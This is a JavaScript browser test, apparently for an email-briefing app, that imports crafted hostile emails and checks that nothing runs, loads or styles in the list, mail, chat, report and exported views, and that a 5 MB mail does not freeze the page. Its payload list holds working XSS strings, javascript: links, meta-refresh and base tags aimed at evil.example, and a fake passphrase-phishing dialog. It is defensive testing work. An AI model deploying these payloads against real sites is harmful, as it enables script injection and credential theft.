// Mail that means harm, brought into the real thing: nothing of it may run, load, style, or become an element, wherever it is
// shown; and none of it may stop the page or fill the memory of the server.
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { launch, leftovers, open } from "./browser.mjs";

// What any of them would make bears this mark, in an attribute or as a property.
const mark = "zqx";
const run = `window.${mark}ran=1;document.title='${mark}'`;
const imitation = `<div class="${mark} mantine-Modal-root" id="${mark}" role="dialog" aria-modal="true"><h2>Steward needs your passphrase</h2><form action="https://evil.example/${mark}"><input name="${mark}" type="password"><button>Open the vault</button></form></div>`;
const payloads = [
  `<img src="https://evil.example/${mark}.png" onerror="${run}">`,
  `<script class="${mark}">${run}</script>`,
  `<svg class="${mark}" onload="${run}"><script>${run}</script><foreignObject><iframe src="javascript:${run}"></iframe></foreignObject></svg>`,
  `</title></textarea></style><style class="${mark}">:root{--${mark}:1} body{display:none}</style>`,
  `[Approve](javascript:${run}) ![x](https://evil.example/${mark}.png) <https://evil.example/${mark}>`,
  `<a class="${mark}" href="javascript:${run}">Open mail</a> https://evil.example/${mark}`,
  `<iframe class="${mark}" srcdoc="<script>parent.${mark}ran=1</script>"></iframe><object class="${mark}" data="data:text/html,x"></object>`,
  `<base class="${mark}" href="https://evil.example/"><meta class="${mark}" http-equiv="refresh" content="0;url=https://evil.example/"><link class="${mark}" rel="stylesheet" href="https://evil.example/${mark}.css">`,
  imitation,
  `# Steward\n\n> **Approved.** \`\`\`\n<b class="${mark}">bold</b>\n| a | b |\n|---|---|\n`,
  `{{constructor.constructor("${run}")()}} \${${run}} %3Cscript%3E &lt;img src=x onerror=${run}&gt; &#60;b class=${mark}&#62;`,
  `\u202e<b class="${mark}">\u2066\u200b\u0007\u001b[31m\u001b]8;;https://evil.example/${mark}\u0007x\u0000`,
  `<b class="${mark}">` + "W".repeat(3_000),
];

const encoded = (text) => `=?utf-8?B?${Buffer.from(text).toString("base64")}?=`;
const parts = (text) => Buffer.from(text).toString("base64").replace(/.{76}/g, "$&\r\n");

/** One mail with the same words everywhere: subject, sender, recipient, text, HTML, and the names of what is attached. */
function mail(i, words, now) {
  const file = encoded(`${words}.html`);
  return [
    `From: ${encoded(words)} <sender${i}@evil.example>`, `To: ${encoded(words)} <sam@lin.example>, sam@lin.example`, `Cc: ${encoded(words)} <cc@evil.example>`, `Subject: ${encoded(words)}`,
    `Date: ${now.toUTCString().replace("GMT", "+0000")}`, `Message-ID: <${i}.${mark}@evil.example>`, ...(i % 4 === 1 ? [`List-Id: ${encoded(words)} <l.evil.example>`] : []), "MIME-Version: 1.0", 'Content-Type: multipart/mixed; boundary="one"', "",
    "--one", 'Content-Type: multipart/alternative; boundary="two"', "",
    ...(i % 2 === 0 ? ["--two", "Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: base64", "", parts(`Please answer by tomorrow.\n\n${words}\n`)] : []),
    "--two", "Content-Type: text/html; charset=utf-8", "Content-Transfer-Encoding: base64", "", parts(`<html><body onload="${run}"><p>Could you answer by Friday?</p>${words}<p>The end.</p></body></html>`), "--two--",
    "--one", `Content-Type: text/html; name="${file}"`, `Content-Disposition: attachment; filename="${file}"`, "Content-Transfer-Encoding: base64", "", parts(`<script>${run}</script>`),
    "--one", 'Content-Type: image/svg+xml; name="picture.svg"', 'Content-Disposition: inline; filename="picture.svg"', "Content-ID: <p@evil>", "", `<svg xmlns="http://www.w3.org/2000/svg" class="${mark}" onload="${run}"/>`,
    "--one", "Content-Type: message/rfc822", "", `Subject: ${encoded(words)}`, "From: inner@evil.example", "", words.replaceAll("\0", ""), "--one--", "",
  ].join("\r\n");
}

const large = (now) => [
  "From: Large <large@evil.example>", "To: sam@lin.example", "Subject: Five megabytes", `Date: ${now.toUTCString().replace("GMT", "+0000")}`, `Message-ID: <large.${mark}@evil.example>`, "Content-Type: text/plain; charset=utf-8", "",
  `A line of many, with <b class="${mark}">marks</b> and 字 in it.\r\n`.repeat(90_000),
].join("\r\n");

/** What a mail made of the page that a text cannot make. */
function traces({ mark, file }) {
  const out = [];
  if (window[`${mark}ran`] !== undefined) out.push("a script ran");
  if (document.title.includes(mark)) out.push(`the title became ${document.title}`);
  if (getComputedStyle(document.documentElement).getPropertyValue(`--${mark}`) !== "" || getComputedStyle(document.body).display === "none") out.push("a style applied");
  for (const e of document.querySelectorAll("*")) {
    for (const { name, value } of e.attributes) {
      // Words that are read out or held in a field are text; everything else has a meaning.
      if (value.includes(mark) && !["aria-label", "value", "title"].includes(name)) out.push(`<${e.localName} ${name}=${value.slice(0, 60)}>`);
      if (name.startsWith("on")) out.push(`<${e.localName} ${name}>`);
    }
  }
  const never = document.querySelectorAll("img:not([src='./icon.svg']), iframe, object, embed, video, audio, base, meta[http-equiv=refresh], input[type=password], svg script, svg foreignObject, body script, marquee");
  for (const e of never) out.push(`<${e.localName}> is there`);
  for (const a of document.querySelectorAll("a")) {
    const to = a.getAttribute("href") ?? "";
    if (!(file ? /^#/ : /^#\/|^#main$/).test(to)) out.push(`a link to ${to.slice(0, 60)}`);
  }
  return out;
}

/** Brings them in and looks everywhere. `pid` is the server's, whose memory is looked at where the system tells it. */
export async function hostile({ url, pid, pictures }) {
  const browser = await launch();
  const { page, faults, close } = await open(browser, { url });
  const found = [];
  const call = (method, request) => page.evaluate(async ([method, request]) => {
    const answer = await fetch(`/rpc/${method}`, { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify(request) });
    const said = await answer.json();
    if (!answer.ok) throw new Error(`${method}: ${JSON.stringify(said)}`);
    return said;
  }, [method, request]);
  const over = async (id) => {
    for (;;) {
      const { state, error, output } = await call("Runs/Outcome", { id });
      if (error) throw new Error(JSON.stringify(error));
      if (state === "done") return output;
      await page.waitForTimeout(100);
    }
  };
  const bring = async (name, content) => {
    const taken = await page.evaluate(async ([name, content]) => (await fetch(`/upload?name=${encodeURIComponent(name)}`, { method: "POST", headers: { "Content-Type": "application/octet-stream" }, body: content })).json(), [name, content]);
    return over((await call("Mail/Import", { paths: [taken.path], me: ["sam@lin.example"] })).id);
  };
  const look = async (name, says) => {
    for (const width of [1280, 640]) {
      await page.setViewportSize({ width, height: 800 });
      await page.waitForTimeout(200);
      if (says) await says();
      for (const t of new Set([...(await page.evaluate(traces, { mark })), ...(await leftovers(page))])) found.push(`${name} ${width}: ${t}`);
      await pictures?.(`${name}-${width}`, page);
    }
    await page.setViewportSize({ width: 1280, height: 800 });
  };
  const goTo = async (hash) => {
    await page.evaluate((hash) => { window.location.hash = hash; }, hash);
    await page.waitForTimeout(100);
  };

  try {
    await page.locator("h1").first().waitFor();
    await call("Setup/Open", { mode: "file", passphrase: "seven quiet harbours" });
    await call("Settings/Set", { language: "en", first_start_done: true });
    const now = new Date();
    for (const [i, words] of payloads.entries()) {
      const { imported } = await bring(`../${words}.eml`, mail(i, words, new Date(now.getTime() - i * 1000)));
      if (imported !== 1) found.push(`mail ${i}: ${imported} came in`);
    }
    await page.reload();

    // The list, and each mail for reading.
    await goTo("#/mail");
    const list = page.getByTestId("mail-list");
    await list.waitFor();
    await look("list", async () => {
      if (!(await page.locator("body").innerText()).includes("<img src=")) throw new Error("the list does not show what it should");
    });
    const { mails } = await call("Mail/Search", { query: "", limit: 100 });
    if (mails.length !== payloads.length) found.push(`${mails.length} mails of ${payloads.length}`);
    for (const [i, { id }] of mails.entries()) {
      await goTo(`#/mail/${id}`);
      await page.getByTestId("mail").waitFor();
      await look(`mail-${i}`);
    }

    // A briefing of them: in the chat, as a report, as its run, and what is saved of it.
    await goTo("#/chat");
    const box = page.getByRole("textbox", { name: "Request" });
    await box.fill(`Brief me on today's mail`);
    await box.press("Enter");
    await page.getByTestId("report").waitFor({ timeout: 30_000 });
    const report = async () => {
      if (!(await page.getByTestId("report").innerText()).includes("<img src=")) throw new Error("the report does not show what it should");
    };
    await look("chat");
    await report();
    const [{ id: briefing, run: its }] = (await call("Reports/List", {})).reports;
    await goTo(`#/reports/${briefing}`);
    await page.getByTestId("report").waitFor();
    await look("report", report);
    await goTo(`#/runs/${its}`);
    await page.getByRole("heading").first().waitFor();
    await look("run");

    const html = await call("Reports/Download", { id: briefing, format: "html" });
    const folder = await mkdtemp(path.join(tmpdir(), "steward-hostile-"));
    const saved = path.join(folder, "report.html");
    await writeFile(saved, html.content);
    const file = await open(browser, { url: `file://${saved}` });
    if (!(await file.page.locator("body").innerText()).includes("<img src=")) found.push("the saved report does not show what it should");
    for (const t of new Set(await file.page.evaluate(traces, { mark, file: true }))) found.push(`saved report: ${t}`);
    for (const f of file.faults) found.push(`saved report: ${f}`);
    await pictures?.("saved", file.page);
    await file.close();
    await rm(folder, { recursive: true, force: true });
    const markdown = await call("Reports/Download", { id: briefing, format: "markdown" });
    for (const [what, live] of [["HTML", /(?<!\\)<[a-z/!]/i], ["an image", /(?<!\\)!\[/], ["a link", /(?<!\\)\]\(/], ["an entity", /(?<!\\)&(?:lt|#\d+);/]]) {
      const at = live.exec(markdown.content);
      if (at) found.push(`saved Markdown: ${what}: ${markdown.content.slice(Math.max(0, at.index - 20), at.index + 60)}`);
    }

    // Five megabytes of text.
    await bring("large.eml", large(now));
    const { mails: [big] } = await call("Mail/Search", { query: "subject:megabytes", limit: 1 });
    await goTo("#/mail");
    await list.waitFor();
    await page.evaluate(() => {
      window.longest = 0;
      let last = window.performance.now();
      const tick = (now) => { window.longest = Math.max(window.longest, now - last); last = now; window.requestAnimationFrame(tick); };
      window.requestAnimationFrame(tick);
    });
    const began = Date.now();
    await goTo(`#/mail/${big.id}`);
    await page.getByTestId("mail").getByText("Five megabytes").waitFor();
    await look("large");
    const longest = Math.round(await page.evaluate(() => window.longest));
    console.log(`a mail of 5 MB: ${Date.now() - began} ms with its pictures, the page stood still for ${longest} ms at most`);
    if (longest > 1_500) found.push(`a mail of 5 MB stops the page for ${longest} ms`);
    const status = await readFile(`/proc/${pid}/status`, "utf8").catch(() => "");
    const peak = Number(/VmHWM:\s+(\d+)/.exec(status)?.[1] ?? 0) >> 10;
    console.log(`the server needed ${peak} MB at most`);
    if (peak > 300) found.push(`the server needed ${peak} MB`);

    // Were one of them to become elements after all, the search above would find it, and the policy would keep it from running,
    // loading and styling. A page cannot be kept from being sent elsewhere by <meta>, so that one is left out.
    const before = faults.length;
    const went = [];
    page.on("requestfinished", (r) => went.push(r.url()));
    page.on("requestfailed", (r) => { if (r.failure()?.errorText !== "csp") went.push(`${r.url()} (${r.failure()?.errorText})`); });
    for (const [i, words] of payloads.entries()) {
      if (/[<](?!https)/.test(words) && !words.includes("http-equiv")) {
        await page.evaluate((words) => {
          const place = document.createElement("div");
          place.dataset.place = "";
          document.body.append(place);
          place.innerHTML = words;
        }, words);
        await page.waitForTimeout(100);
        const seen = await page.evaluate(traces, { mark });
        await page.evaluate(() => document.querySelector("[data-place]").remove());
        if (seen.length === 0) found.push(`payload ${i} would not be found`);
        for (const t of seen) if (/^(a script ran|the title|a style)/.test(t)) found.push(`payload ${i}, as elements: ${t}`);
      }
    }
    for (const t of await page.evaluate(traces, { mark })) found.push(`after all payloads as elements: ${t}`);
    const refused = faults.splice(before);
    if (!refused.some((f) => /Content Security Policy|violates/i.test(f))) found.push("the policy refused nothing");
    for (const to of went) if (to.includes("evil.example")) found.push(`as elements, a request went to ${to}`);
  } catch (error) {
    await pictures?.("failed", page);
    found.push(error.message.split("\n").slice(0, 4).join(" "));
  }
  await close();
  await browser.close();
  return [...found, ...faults];
}
